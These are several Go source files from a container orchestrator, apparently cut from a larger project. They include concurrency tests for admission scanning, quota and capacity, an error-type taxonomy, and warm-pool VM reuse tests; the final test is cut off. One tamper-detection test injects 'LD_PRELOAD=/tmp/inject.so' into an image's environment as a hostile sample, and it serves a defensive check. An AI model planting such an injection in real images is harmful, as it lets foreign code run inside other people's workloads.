				quota.Add(1)
			default:
				t.Errorf("unexpected error: %v", err)
			}
		}()
	}
	wg.Wait()
	if wins.Load() != 5 || quota.Load() != racers-5 {
		t.Fatalf("wins=%d quota-rejections=%d, want 5/%d", wins.Load(), quota.Load(), racers-5)
	}
	if used := c.TenantUsage("acme"); used.CPUMilli != 2500 {
		t.Fatalf("tenant usage = %+v after settle, want 2500 CPUMilli", used)
	}
}

// TestConcurrentDeploysAcrossNodes floods a multi-node cluster from many
// goroutines and checks capacity accounting stays exact.
func TestConcurrentDeploysAcrossNodes(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("edge", reg, Settings{})
	const nodes, perNode = 4, 6
	for i := 0; i < nodes; i++ {
		c.AddNode(fmt.Sprintf("olt-%02d", i), Resources{CPUMilli: perNode * 500, MemoryMB: perNode * 512})
	}
	total := nodes * perNode
	var wg sync.WaitGroup
	errs := make([]error, total)
	for i := 0; i < total; i++ {
		i := i
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, errs[i] = c.Deploy("ops", spec(fmt.Sprintf("w%03d", i), fmt.Sprintf("t%d", i%3), "acme/analytics:2.0.1", IsolationSoft))
		}()
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	if got := len(c.Workloads()); got != total {
		t.Fatalf("%d workloads registered, want %d", got, total)
	}
	for _, u := range c.Utilization() {
		if u.Used != (Resources{CPUMilli: perNode * 500, MemoryMB: perNode * 512}) {
			t.Fatalf("node %s used %+v, want full", u.Node, u.Used)
		}
	}
	// The cluster is exactly full: one more deploy must fail cleanly.
	if _, err := c.Deploy("ops", spec("overflow", "t0", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrNoCapacity) {
		t.Fatalf("overflow err = %v, want ErrNoCapacity", err)
	}
}
