package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"genio/internal/container"
)

// TestAdmissionVerdictIndependentOfParallelism pins the determinism
// contract: whatever the pool size, the verdict is the error of the
// first-registered failing controller.
func TestAdmissionVerdictIndependentOfParallelism(t *testing.T) {
	for _, parallelism := range []int{0, 1, 2, 8} {
		c, _ := testCluster(t, Settings{})
		c.AdmissionParallelism = parallelism
		for i := 0; i < 6; i++ {
			name := fmt.Sprintf("c%d", i)
			fail := i == 2 || i == 4
			c.RegisterAdmission(name, func(WorkloadSpec, *container.Image) error {
				if fail {
					return fmt.Errorf("%s says no", name)
				}
				return nil
			})
		}
		_, err := c.Deploy("ops", spec("x", "t", "acme/analytics:2.0.1", IsolationSoft))
		if !errors.Is(err, ErrDenied) {
			t.Fatalf("parallelism %d: err = %v, want ErrDenied", parallelism, err)
		}
		if !strings.Contains(err.Error(), "by c2") {
			t.Fatalf("parallelism %d: verdict should come from c2, got %v", parallelism, err)
		}
	}
}

// TestAdmissionCacheSkipsCleanRescan checks that a cacheable controller
// runs once per image digest, not once per deployment.
func TestAdmissionCacheSkipsCleanRescan(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	c.RegisterAdmissionCached("counter", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return nil
	})
	for i := 0; i < 3; i++ {
		name := fmt.Sprintf("w%d", i)
		if _, err := c.Deploy("ops", spec(name, "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
			t.Fatalf("deploy %s: %v", name, err)
		}
	}
	if got := runs.Load(); got != 1 {
		t.Fatalf("cacheable controller ran %d times for one image, want 1", got)
	}
	// A different image has a different digest and must be scanned.
	if _, err := c.Deploy("ops", spec("other", "acme", "acme/iot-gateway:1.4.2", IsolationSoft)); err != nil {
		t.Fatalf("deploy other image: %v", err)
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("controller ran %d times across two images, want 2", got)
	}
}

// TestAdmissionCacheNeverCachesRejections checks a failing image is
// re-scanned (and re-rejected) on every attempt.
func TestAdmissionCacheNeverCachesRejections(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	c.RegisterAdmissionCached("reject-all", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return errors.New("nope")
	})
	for i := 0; i < 2; i++ {
		if _, err := c.Deploy("ops", spec(fmt.Sprintf("w%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrDenied) {
			t.Fatalf("attempt %d: err = %v, want ErrDenied", i, err)
		}
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("failing controller ran %d times, want 2 (rejections are never cached)", got)
	}
}

// TestAdmissionCacheDisabled checks the benchmark knob forces cold scans.
func TestAdmissionCacheDisabled(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	c.AdmissionCacheDisabled = true
	var runs atomic.Int64
	c.RegisterAdmissionCached("counter", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return nil
	})
	for i := 0; i < 2; i++ {
		if _, err := c.Deploy("ops", spec(fmt.Sprintf("w%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
			t.Fatal(err)
		}
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("controller ran %d times with cache disabled, want 2", got)
	}
}

// TestConcurrentDuplicateNameOneWinner races N deploys of the same
// workload name; exactly one may win.
func TestConcurrentDuplicateNameOneWinner(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	const racers = 16
	var wg sync.WaitGroup
	var wins, dups atomic.Int64
	for i := 0; i < racers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := c.Deploy("ops", spec("contested", "acme", "acme/analytics:2.0.1", IsolationSoft))
			switch {
			case err == nil:
				wins.Add(1)
			case errors.Is(err, ErrDuplicateName):
				dups.Add(1)
			default:
				t.Errorf("unexpected error: %v", err)
			}
		}()
	}
	wg.Wait()
	if wins.Load() != 1 || dups.Load() != racers-1 {
		t.Fatalf("wins=%d dups=%d, want 1/%d", wins.Load(), dups.Load(), racers-1)
	}
	admitted, rejected := c.Counters()
	if admitted != 1 || rejected != racers-1 {
		t.Fatalf("counters = %d/%d, want 1/%d", admitted, rejected, racers-1)
	}
}

// TestConcurrentQuotaNeverOversubscribed races more deploys than the
// tenant quota allows; the up-front reservation must make the admitted
// count exact.
func TestConcurrentQuotaNeverOversubscribed(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	c.SetQuota("acme", Resources{CPUMilli: 2500, MemoryMB: 2560}) // fits exactly 5 of spec()'s 500/512
	const racers = 12
	var wg sync.WaitGroup
	var wins, quota atomic.Int64
	for i := 0; i < racers; i++ {
		i := i
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := c.Deploy("ops", spec(fmt.Sprintf("q%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft))
			switch {
			case err == nil:
				wins.Add(1)
			case errors.Is(err, ErrQuotaExceeded):
				quota.Add(1)
			default:
				t.Errorf("unexpected error: %v", err)
			}
		}()
	}
	wg.Wait()
	if wins.Load() != 5 || quota.Load() != racers-5 {
		t.Fatalf("wins=%d quota-rejections=%d, want 5/%d", wins.Load(), quota.Load(), racers-5)
	}
	if used := c.TenantUsage("acme"); used.CPUMilli != 2500 {
		t.Fatalf("tenant usage = %+v after settle, want 2500 CPUMilli", used)
	}
}

// TestConcurrentDeploysAcrossNodes floods a multi-node cluster from many
// goroutines and checks capacity accounting stays exact.
func TestConcurrentDeploysAcrossNodes(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("edge", reg, Settings{})
	const nodes, perNode = 4, 6
	for i := 0; i < nodes; i++ {
		c.AddNode(fmt.Sprintf("olt-%02d", i), Resources{CPUMilli: perNode * 500, MemoryMB: perNode * 512})
	}
	total := nodes * perNode
	var wg sync.WaitGroup
	errs := make([]error, total)
	for i := 0; i < total; i++ {
		i := i
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, errs[i] = c.Deploy("ops", spec(fmt.Sprintf("w%03d", i), fmt.Sprintf("t%d", i%3), "acme/analytics:2.0.1", IsolationSoft))
		}()
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	if got := len(c.Workloads()); got != total {
		t.Fatalf("%d workloads registered, want %d", got, total)
	}
	for _, u := range c.Utilization() {
		if u.Used != (Resources{CPUMilli: perNode * 500, MemoryMB: perNode * 512}) {
			t.Fatalf("node %s used %+v, want full", u.Node, u.Used)
		}
	}
	// The cluster is exactly full: one more deploy must fail cleanly.
	if _, err := c.Deploy("ops", spec("overflow", "t0", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrNoCapacity) {
		t.Fatalf("overflow err = %v, want ErrNoCapacity", err)
	}
}

// TestAdmissionSingleflightCollapsesConcurrentScans pins the
// concurrent-identical collapse: two simultaneous deploys of the same
// image digest share ONE scanner run — the second waits on the first's
// verdict instead of racing it through the (not yet populated) cache.
func TestAdmissionSingleflightCollapsesConcurrentScans(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	entered := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	c.RegisterAdmissionCached("slow-scanner", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		once.Do(func() { close(entered) })
		<-release
		return nil
	})

	errs := make(chan error, 2)
	go func() {
		_, err := c.Deploy("ops", spec("first", "acme", "acme/analytics:2.0.1", IsolationSoft))
		errs <- err
	}()
	<-entered // the leader is inside the scanner
	go func() {
		_, err := c.Deploy("ops", spec("second", "acme", "acme/analytics:2.0.1", IsolationSoft))
		errs <- err
	}()
	// Give the follower time to reach the in-flight wait, then let the
	// leader's scan finish. (If the follower arrives after the verdict
	// commits it takes the cache-hit path instead — either way the
	// scanner must have run exactly once.)
	time.Sleep(20 * time.Millisecond)
	close(release)

	for i := 0; i < 2; i++ {
		if err := <-errs; err != nil {
			t.Fatalf("concurrent deploy %d: %v", i, err)
		}
	}
	if got := runs.Load(); got != 1 {
		t.Fatalf("scanner ran %d times for two concurrent deploys of one digest, want 1", got)
	}
}

// TestAdmissionSingleflightSharesRejection checks a follower adopts the
// leader's rejection: the image content is identical, so re-scanning it
// for the concurrent sibling would only repeat the verdict.
func TestAdmissionSingleflightSharesRejection(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	entered := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	c.RegisterAdmissionCached("slow-reject", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		once.Do(func() { close(entered) })
		<-release
		return errors.New("malware")
	})

	errs := make(chan error, 2)
	go func() {
		_, err := c.Deploy("ops", spec("first", "acme", "acme/analytics:2.0.1", IsolationSoft))
		errs <- err
	}()
	<-entered
	go func() {
		_, err := c.Deploy("ops", spec("second", "acme", "acme/analytics:2.0.1", IsolationSoft))
		errs <- err
	}()
	time.Sleep(20 * time.Millisecond)
	close(release)

	for i := 0; i < 2; i++ {
		if err := <-errs; !errors.Is(err, ErrDenied) {
			t.Fatalf("concurrent deploy %d: err = %v, want ErrDenied", i, err)
		}
	}
	// Exactly one scan while the two deploys overlapped. A later retry
	// re-scans as usual — rejections are still never cached.
	if got := runs.Load(); got != 1 {
		t.Fatalf("scanner ran %d times for two concurrent deploys, want 1", got)
	}
	if _, err := c.Deploy("ops", spec("retry", "acme", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrDenied) {
		t.Fatalf("retry err = %v, want ErrDenied", err)
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("scanner ran %d times after retry, want 2 (rejections are never cached)", got)
	}
}

// TestAdmissionSingleflightAbandonedLeader checks a follower retakes
// leadership when the leader's deployment is cancelled mid-scan: the
// abandoned verdict is unusable, so the surviving deploy re-runs the
// scanner and still completes.
func TestAdmissionSingleflightAbandonedLeader(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	entered := make(chan struct{}, 2)
	release := make(chan struct{})
	c.RegisterAdmissionCtx("noop", func(context.Context, WorkloadSpec, *container.Image) error { return nil })
	c.RegisterAdmissionCachedCtx("slow-scanner", func(ctx context.Context, _ WorkloadSpec, _ *container.Image) error {
		n := runs.Add(1)
		entered <- struct{}{}
		if n == 1 {
			// Leader: block until its context is cancelled.
			<-ctx.Done()
			return ctx.Err()
		}
		<-release
		return nil
	})

	leaderCtx, cancelLeader := context.WithCancel(context.Background())
	leaderErr := make(chan error, 1)
	go func() {
		_, err := c.DeployContext(leaderCtx, "ops", spec("leader", "acme", "acme/analytics:2.0.1", IsolationSoft))
		leaderErr <- err
	}()
	<-entered // leader is inside the scanner

	followerErr := make(chan error, 1)
	go func() {
		_, err := c.Deploy("ops", spec("follower", "acme", "acme/analytics:2.0.1", IsolationSoft))
		followerErr <- err
	}()
	// Let the follower reach the in-flight wait, then kill the leader.
	time.Sleep(20 * time.Millisecond)
	cancelLeader()

	var cerr *CancelledError
	if err := <-leaderErr; !errors.As(err, &cerr) {
		t.Fatalf("leader err = %v, want *CancelledError", err)
	}
	<-entered // follower retook leadership and entered the scanner
	close(release)
	if err := <-followerErr; err != nil {
		t.Fatalf("follower deploy: %v", err)
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("scanner ran %d times, want 2 (abandoned leader + retake)", got)
	}
}
