package orchestrator

// Control-plane error taxonomy (API v2): every rejection path of the
// deploy pipeline returns a typed error carrying the structured facts a
// caller needs (per-scanner verdicts, quota arithmetic, the missing node)
// instead of a formatted string. All types stay errors.Is-compatible with
// the package sentinels, so existing `errors.Is(err, ErrDenied)` call
// sites keep working, and every rejection additionally matches the
// ErrRejected umbrella — `errors.Is(err, ErrRejected)` distinguishes "the
// control plane said no" from harness failure. Cancellation is its own
// class (ErrCancelled), deliberately outside the rejection umbrella: a
// cancelled deployment was withdrawn by its caller, not refused by the
// platform.

import (
	"errors"
	"fmt"
	"strings"
)

// Umbrella and cancellation sentinels (the per-reason sentinels —
// ErrDenied, ErrNoCapacity, ErrQuotaExceeded, ... — live in
// orchestrator.go).
var (
	// ErrRejected matches every typed rejection the deploy pipeline can
	// return: admission denial, image pull failure, quota, capacity,
	// RBAC, and duplicate names.
	ErrRejected = errors.New("orchestrator: deployment rejected")
	// ErrCancelled matches deployments aborted by context cancellation or
	// deadline expiry. Not a rejection: errors.Is(err, ErrRejected) is
	// false for cancelled deploys.
	ErrCancelled = errors.New("orchestrator: deployment cancelled")
	// ErrNodeUnknown is the sentinel behind NodeNotFoundError for cluster
	// operations addressing a node that is not (or no longer) a member.
	ErrNodeUnknown = errors.New("orchestrator: unknown node")
)

// ScannerVerdict is one admission controller's outcome within a single
// deployment, in chain registration order.
type ScannerVerdict struct {
	Scanner string `json:"scanner"`
	Passed  bool   `json:"passed"`
	// Cached is true when a clean verdict came from the per-digest cache
	// rather than a fresh scan.
	Cached bool `json:"cached,omitempty"`
	// Detail is the controller's failure message ("" when it passed).
	Detail string `json:"detail,omitempty"`
}

// AdmissionError reports an admission-chain rejection with the full
// per-scanner verdict vector. The verdict of the first-registered failing
// controller is the one the error message carries (the chain's
// deterministic aggregate), but every controller's outcome is available
// for display — genioctl prints the whole table.
type AdmissionError struct {
	Workload string
	Tenant   string
	// Verdicts holds one entry per registered controller, in registration
	// order.
	Verdicts []ScannerVerdict
}

// failing returns the first failing verdict in registration order.
func (e *AdmissionError) failing() *ScannerVerdict {
	for i := range e.Verdicts {
		if !e.Verdicts[i].Passed {
			return &e.Verdicts[i]
		}
	}
	return nil
}

// Rejections returns the verdicts of every failing controller, in
// registration order.
func (e *AdmissionError) Rejections() []ScannerVerdict {
	var out []ScannerVerdict
	for _, v := range e.Verdicts {
		if !v.Passed {
			out = append(out, v)
		}
	}
	return out
}

// Error keeps the pre-taxonomy format: the first-registered failure wins.
func (e *AdmissionError) Error() string {
	if f := e.failing(); f != nil {
		return fmt.Sprintf("%v by %s: %s", ErrDenied, f.Scanner, f.Detail)
	}
	return ErrDenied.Error()
}

// Is matches ErrDenied (compatibility) and the ErrRejected umbrella.
func (e *AdmissionError) Is(target error) bool {
	return target == ErrDenied || target == ErrRejected
}

// ImagePullError reports a registry pull failure (unknown ref, unsigned
// image, bad signature). Unwrap exposes the underlying container-package
// sentinel, so errors.Is(err, container.ErrUnsigned) keeps working.
type ImagePullError struct {
	Ref string
	Err error
}

// Error keeps the pre-taxonomy "pull <ref>: <cause>" format.
func (e *ImagePullError) Error() string { return fmt.Sprintf("pull %s: %v", e.Ref, e.Err) }

// Unwrap exposes the registry cause.
func (e *ImagePullError) Unwrap() error { return e.Err }

// Is matches the ErrRejected umbrella (the cause chain is reachable via
// Unwrap).
func (e *ImagePullError) Is(target error) bool { return target == ErrRejected }

// CapacityError reports that no node could host the workload's demand.
type CapacityError struct {
	Workload  string
	Requested Resources
	// Nodes is the number of live nodes that were considered.
	Nodes int
}

// Error keeps the ErrNoCapacity message as its prefix.
func (e *CapacityError) Error() string {
	return fmt.Sprintf("%v: %s needs cpu=%dm mem=%dMB across %d node(s)",
		ErrNoCapacity, e.Workload, e.Requested.CPUMilli, e.Requested.MemoryMB, e.Nodes)
}

// Is matches ErrNoCapacity (compatibility) and the ErrRejected umbrella.
func (e *CapacityError) Is(target error) bool {
	return target == ErrNoCapacity || target == ErrRejected
}

// QuotaError reports a tenant-quota rejection with the arithmetic that
// produced it: Used + Requested would exceed Quota.
type QuotaError struct {
	Tenant    string
	Requested Resources
	Used      Resources
	Quota     Resources
}

// Error keeps the pre-taxonomy "tenant <t>" suffix format.
func (e *QuotaError) Error() string {
	return fmt.Sprintf("%v: tenant %s", ErrQuotaExceeded, e.Tenant)
}

// Is matches ErrQuotaExceeded (compatibility) and the ErrRejected
// umbrella.
func (e *QuotaError) Is(target error) bool {
	return target == ErrQuotaExceeded || target == ErrRejected
}

// UnauthorizedError reports an RBAC denial of a control-plane operation.
type UnauthorizedError struct {
	Subject string
	Verb    string
	Tenant  string
}

// Error keeps the pre-taxonomy message format.
func (e *UnauthorizedError) Error() string {
	return fmt.Sprintf("%v: %s may not %s workloads in %s", ErrUnauthorized, e.Subject, e.Verb, e.Tenant)
}

// Is matches ErrUnauthorized (compatibility) and the ErrRejected
// umbrella.
func (e *UnauthorizedError) Is(target error) bool {
	return target == ErrUnauthorized || target == ErrRejected
}

// DuplicateNameError reports a workload-name collision with a running or
// in-flight deployment.
type DuplicateNameError struct {
	Workload string
}

// Error keeps the pre-taxonomy message format.
func (e *DuplicateNameError) Error() string {
	return fmt.Sprintf("%v: %s", ErrDuplicateName, e.Workload)
}

// Is matches ErrDuplicateName (compatibility) and the ErrRejected
// umbrella.
func (e *DuplicateNameError) Is(target error) bool {
	return target == ErrDuplicateName || target == ErrRejected
}

// NodeNotFoundError reports an operation addressing an unknown node. Err
// carries the owning package's sentinel (ErrNodeUnknown here,
// core.ErrNoNode on the platform surface) so historical errors.Is checks
// keep passing.
type NodeNotFoundError struct {
	Node string
	Err  error
}

// Error formats "<sentinel>: <node>".
func (e *NodeNotFoundError) Error() string {
	if e.Err != nil {
		return fmt.Sprintf("%v: %s", e.Err, e.Node)
	}
	return fmt.Sprintf("%v: %s", ErrNodeUnknown, e.Node)
}

// Unwrap exposes the package sentinel.
func (e *NodeNotFoundError) Unwrap() error {
	if e.Err != nil {
		return e.Err
	}
	return ErrNodeUnknown
}

// PlacementPolicyError reports a deploy whose WorkloadSpec named an
// unknown placement policy. A rejection (matches ErrRejected): a typo'd
// policy must fail loudly, not silently take the cluster default.
type PlacementPolicyError struct {
	Workload string
	Policy   string
}

// Error names the offending policy and the accepted vocabulary.
func (e *PlacementPolicyError) Error() string {
	return fmt.Sprintf("orchestrator: unknown placement policy %q for %s (want %s|%s)",
		e.Policy, e.Workload, PlacementBinpack, PlacementSpread)
}

// Is matches the ErrRejected umbrella.
func (e *PlacementPolicyError) Is(target error) bool { return target == ErrRejected }

// DrainError reports a drain aborted because a workload could not be
// live-migrated off the node (typically capacity). The drain's partial
// progress is in the DrainResult returned alongside it; the node's
// schedulable state has been rolled back. Unwrap exposes the scheduling
// failure, so errors.Is(err, ErrNoCapacity) works.
type DrainError struct {
	Node     string
	Workload string
	Err      error
}

// Error names the stuck workload and the cause.
func (e *DrainError) Error() string {
	return fmt.Sprintf("orchestrator: drain %s blocked at %s: %v", e.Node, e.Workload, e.Err)
}

// Unwrap exposes the scheduling failure.
func (e *DrainError) Unwrap() error { return e.Err }

// CancelledError reports a deployment aborted by its context: cancelled
// explicitly or past its deadline. Stage names where in the pipeline the
// abort landed (admission | reservation | placement | drain). Unwrap
// exposes the context error, so errors.Is(err, context.Canceled) and
// errors.Is(err, context.DeadlineExceeded) both work.
type CancelledError struct {
	Workload string
	Stage    string
	Err      error
}

// Error names the stage and the context cause.
func (e *CancelledError) Error() string {
	var b strings.Builder
	b.WriteString(ErrCancelled.Error())
	if e.Stage != "" {
		b.WriteString(" during ")
		b.WriteString(e.Stage)
	}
	if e.Err != nil {
		b.WriteString(": ")
		b.WriteString(e.Err.Error())
	}
	return b.String()
}

// Unwrap exposes the context error (context.Canceled or
// context.DeadlineExceeded).
func (e *CancelledError) Unwrap() error { return e.Err }

// Is matches the ErrCancelled sentinel. Cancellation is not a rejection:
// ErrRejected does not match.
func (e *CancelledError) Is(target error) bool { return target == ErrCancelled }
