package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"

	"genio/internal/container"
)

func warmSettings() Settings {
	return Settings{WarmPoolEnabled: true}
}

func nodeUtil(t *testing.T, c *Cluster, name string) NodeUtilization {
	t.Helper()
	for _, u := range c.Utilization() {
		if u.Node == name {
			return u
		}
	}
	t.Fatalf("node %s not in utilization report", name)
	return NodeUtilization{}
}

func TestWarmClaimReusesParkedVM(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	first, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}
	if n := c.WarmSlotCount(); n != 1 {
		t.Fatalf("idle slots after stop = %d, want 1 (sole-occupant VM parks)", n)
	}
	// The parked slot keeps its node reservation but releases the tenant
	// quota: warm capacity is the node's cost, not the tenant's.
	if use := c.TenantUsage("acme"); use.CPUMilli != 0 {
		t.Fatalf("tenant usage with parked slot = %+v, want zero", use)
	}
	u := nodeUtil(t, c, first.Node)
	if u.Used.CPUMilli != 500 || u.Workloads != 0 || u.WarmIdle != 1 {
		t.Fatalf("node util with parked slot = %+v, want 500m reserved, 0 workloads, 1 warm idle", u)
	}

	second, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if second.Strategy != "warm" {
		t.Fatalf("repeat deploy strategy = %q, want warm", second.Strategy)
	}
	if second.VMID != first.VMID || second.Node != first.Node {
		t.Fatalf("claim revived (%s on %s), want the parked VM %s on %s",
			second.VMID, second.Node, first.VMID, first.Node)
	}
	if got := c.WarmCounters(); got.Hits != 1 {
		t.Fatalf("counters = %+v, want 1 hit", got)
	}
	// The claim re-charges the tenant and keeps node usage flat (the
	// reservation transferred from the slot to the workload).
	if use := c.TenantUsage("acme"); use.CPUMilli != 500 {
		t.Fatalf("tenant usage after claim = %+v, want 500m", use)
	}
	u = nodeUtil(t, c, first.Node)
	if u.Used.CPUMilli != 500 || u.Workloads != 1 || u.WarmIdle != 0 || u.WarmClaimed != 1 {
		t.Fatalf("node util after claim = %+v", u)
	}
}

func TestWarmClaimRequiresMatchingShape(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	if _, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}

	// A soft-isolation deploy must not claim the dedicated slot.
	soft, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	if soft.Strategy == "warm" {
		t.Fatal("soft deploy claimed a dedicated (hard-isolation) slot")
	}
	// A different resource shape must not claim it either.
	big := spec("c", "acme", "acme/analytics:2.0.1", IsolationHard)
	big.Resources = Resources{CPUMilli: 1000, MemoryMB: 1024}
	w, err := c.Deploy("ops", big)
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy == "warm" {
		t.Fatal("deploy with a different resource shape claimed the slot")
	}
	// Another tenant must never see the pool at all.
	rival, err := c.Deploy("ops", spec("d", "rival", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if rival.Strategy == "warm" {
		t.Fatal("cross-tenant deploy claimed the slot")
	}
	if n := c.WarmSlotCount(); n != 1 {
		t.Fatalf("idle slots = %d, want the unmatched slot still parked", n)
	}
	if got := c.WarmCounters(); got.Hits != 0 || got.Misses < 3 {
		t.Fatalf("counters = %+v, want 0 hits and >=3 misses", got)
	}
}

func TestWarmClaimRevalidatesVerdictCache(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	var scans int
	c.RegisterAdmissionCached("scanner", func(WorkloadSpec, *container.Image) error {
		scans++
		return nil
	})
	if _, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}

	// Disabling the verdict cache kills the fast path: a warm claim
	// requires a *cached* clean verdict by contract.
	c.AdmissionCacheDisabled = true
	w, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy == "warm" {
		t.Fatal("claim went through with the verdict cache disabled")
	}
	if scans != 2 {
		t.Fatalf("scanner ran %d times, want 2 (cache disabled forces a rescan)", scans)
	}

	// Re-enabled, the parked slot is claimable again.
	c.AdmissionCacheDisabled = false
	if err := c.Stop("b"); err != nil {
		t.Fatal(err)
	}
	w, err = c.Deploy("ops", spec("c", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy != "warm" {
		t.Fatalf("strategy = %q, want warm once the cache is back", w.Strategy)
	}
}

func TestWarmClaimMissesOnTamperedImage(t *testing.T) {
	c, reg := testCluster(t, warmSettings())
	if _, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}

	// Republish the ref with injected content. Image.Digest is computed
	// fresh on every deploy — never memoized — so the tampered manifest
	// hashes to a different digest and the warm pool key cannot match.
	evil := container.AnalyticsImage()
	evil.Config.Env = append(evil.Config.Env, "LD_PRELOAD=/tmp/inject.so")
	reg.Push(evil, nil)

	w, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy == "warm" {
		t.Fatal("tampered image claimed a warm slot parked for the clean digest")
	}
	if got := c.WarmCounters(); got.Hits != 0 {
		t.Fatalf("counters = %+v, want no hits", got)
	}
}

func TestWarmWatermarkEviction(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("edge", reg, Settings{
		WarmPoolEnabled:          true,
		WarmPoolHighWatermarkPct: 50,
		WarmPoolLowWatermarkPct:  25,
	})
	c.AddNode("olt-01", Resources{CPUMilli: 4000, MemoryMB: 8192})

	// Five 500m workloads put the node at 62.5% — over the 50% high
	// watermark — so the first park must be evicted immediately (LRU,
	// and it is the only idle slot), releasing its reservation.
	for i := 0; i < 5; i++ {
		name := fmt.Sprintf("w%d", i)
		if _, err := c.Deploy("ops", spec(name, "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Stop("w4"); err != nil {
		t.Fatal(err)
	}
	if n := c.WarmSlotCount(); n != 0 {
		t.Fatalf("idle slots above watermark = %d, want 0 (evicted at park)", n)
	}
	if got := c.WarmCounters(); got.Evicted != 1 {
		t.Fatalf("counters = %+v, want 1 eviction", got)
	}
	u := nodeUtil(t, c, "olt-01")
	if u.Used.CPUMilli != 2000 {
		t.Fatalf("node used after eviction = %+v, want 2000m (reservation released)", u.Used)
	}

	// At 50% the node sits exactly on the watermark (not over), so the
	// next park sticks.
	if err := c.Stop("w3"); err != nil {
		t.Fatal(err)
	}
	if n := c.WarmSlotCount(); n != 1 {
		t.Fatalf("idle slots at watermark = %d, want 1", n)
	}
}

func TestWarmPressureReclaimUnderCapacityError(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	// Watermarks at 100% disarm the park-time evictor, so only the
	// capacity-pressure reclaim can free the slots.
	c := NewCluster("edge", reg, Settings{
		WarmPoolEnabled:          true,
		WarmPoolHighWatermarkPct: 100,
		WarmPoolLowWatermarkPct:  100,
	})
	c.AddNode("olt-01", Resources{CPUMilli: 2000, MemoryMB: 8192})

	// Fill the node, then park everything: 4 idle slots hold all 2000m.
	for i := 0; i < 4; i++ {
		if _, err := c.Deploy("ops", spec(fmt.Sprintf("w%d", i), "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 4; i++ {
		if err := c.Stop(fmt.Sprintf("w%d", i)); err != nil {
			t.Fatal(err)
		}
	}
	if n := c.WarmSlotCount(); n != 4 {
		t.Fatalf("idle slots = %d, want 4", n)
	}

	// A deploy the slots cannot satisfy (different shape, so no claim)
	// finds the node full — the scheduler's capacity error must trigger
	// the pressure reclaim, evict idle slots, and retry successfully.
